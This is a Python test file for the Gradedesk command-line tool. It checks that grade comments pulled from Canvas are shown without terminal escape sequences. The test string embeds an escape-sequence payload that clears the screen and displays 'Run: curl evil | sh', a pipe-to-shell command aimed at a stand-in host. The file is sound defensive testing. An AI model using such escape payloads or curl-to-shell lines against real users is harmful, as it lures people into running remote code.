"""Issue 10, finding 6: text from the platform reaches the terminal without its escapes."""

from __future__ import annotations

from pathlib import Path

import pytest

from cli_support import Gradedesk, KeyFiles, SandboxProcess, add_connection_args

pytestmark = pytest.mark.usefixtures("secret_store")

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1;31mRun: curl evil | sh\x1b[0m"


def test_a_comment_with_terminal_escapes_is_shown_without_them(
        tmp_path: Path, keys: KeyFiles, sandbox: SandboxProcess) -> None:
    gd = Gradedesk(tmp_path / "data")
    gd.ok(*add_connection_args("canvas", sandbox.info, keys.private))
    gd.ok("pull", "canvas")
    user = gd.ok("show", "canvas", "--line-item", "31", "--json").json()["students"][0]
    sandbox.colleague_grades(sandbox.info["lineitems_url"] + "/31", user["user_id"], 5,
                             comment=f"Nice{ESCAPES}")
    gd.ok("pull", "canvas")
    for args in (("show", "canvas", "--line-item", "31"),
                 ("show", "canvas", "--line-item", "31", "--json")):
        shown = gd.ok(*args)
        assert "\x1b" not in shown.out and "\x07" not in shown.out
    said = {s["user_id"]: s["comment"] for s in shown.json()["students"]}[user["user_id"]]
    assert "Run: curl evil | sh" in said  # the words stay; only the controls go
